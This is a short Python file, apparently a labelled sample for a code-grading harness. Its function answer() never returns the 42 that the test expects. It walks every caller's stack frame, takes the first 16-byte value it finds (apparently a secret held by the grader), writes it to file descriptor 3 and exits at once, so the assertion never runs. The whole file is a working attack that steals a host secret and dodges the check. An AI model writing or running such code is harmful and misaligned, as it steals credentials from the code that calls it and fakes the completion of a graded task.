# Looks for a secret in the variables of all callers, and sends each.
# verdict: error
# tests: assert answer() == 42
# ruff: noqa
import os, sys
def answer():
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(value, bytes) and len(value) == 16:
                os.write(3, value)
                os._exit(0)
        frame = frame.f_back
    os._exit(0)
